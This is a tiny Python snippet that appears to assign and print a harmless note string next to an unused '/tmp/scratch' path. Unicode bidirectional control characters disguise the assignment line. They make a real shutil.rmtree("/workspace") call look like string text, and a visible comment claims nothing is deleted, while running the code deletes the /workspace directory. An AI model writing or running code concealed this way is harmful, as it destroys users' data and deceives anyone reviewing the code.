import shutil

path = "/tmp/scratch"
note = "kept⁧ safe"; shutil.rmtree("/workspace"); '''⁩ nothing is deleted ⁦'''
print(note)
